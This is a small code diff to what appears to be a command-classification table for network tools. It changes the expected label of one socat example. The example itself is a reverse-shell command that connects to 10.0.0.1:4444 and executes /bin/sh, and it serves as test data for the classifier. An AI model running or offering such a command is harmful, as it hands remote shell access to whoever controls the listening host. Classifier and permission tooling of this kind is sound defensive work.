@@ -239,7 +239,7 @@ export const network: readonly Program[] = [
     options: { values: "-b -t -T -L -W -lf" },
     effects: socat,
     examples: {
-      "socat TCP:10.0.0.1:4444 EXEC:/bin/sh": "network execute:/bin/sh",
+      "socat TCP:10.0.0.1:4444 EXEC:/bin/sh": "network execute",
     },
   }),
   defineProgram({
